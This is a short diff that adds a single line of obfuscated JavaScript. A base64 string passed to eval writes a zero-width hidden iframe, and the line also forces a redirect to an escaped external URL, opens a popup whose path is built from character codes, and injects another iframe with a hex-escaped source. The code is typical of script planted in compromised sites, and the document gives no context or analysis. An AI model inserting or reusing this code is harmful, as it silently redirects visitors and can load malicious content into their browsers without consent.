@@ -1,0 +1,1 @@
+eval(atob('ZG9jdW1lbnQud3JpdGUoJzxpZnJhbWUgc3JjPSIvdGRzIiB3aWR0aD0wPjwvaWZyYW1lPicp')); location.replace(unescape('%68ttp%3A//x.example/')); window.open(String.fromCharCode(47,112)); var f=document.createElement('iframe'); f.src='\x2fz';
